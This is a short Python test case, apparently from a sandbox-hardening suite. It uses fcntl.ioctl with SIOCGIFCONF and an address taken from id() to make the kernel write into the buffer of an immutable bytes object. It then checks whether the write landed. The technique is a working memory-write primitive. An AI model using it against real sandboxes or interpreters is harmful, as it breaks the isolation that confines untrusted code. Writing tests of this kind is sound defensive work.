# class: machine_code
# rule: native_code
# success: the kernel writes to an address that stands in a structure for fcntl.ioctl
# proof: word
import fcntl
import socket
import struct

from attack import attempt


@attempt
def write():
    target = bytes(64)
    where = id(target) + 32
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        # SIOCGIFCONF, struct ifconf: the room there is, and where.
        fcntl.ioctl(any_socket, 0x8912, struct.pack("iL", 40, where))
    return target[:2] == b"lo"
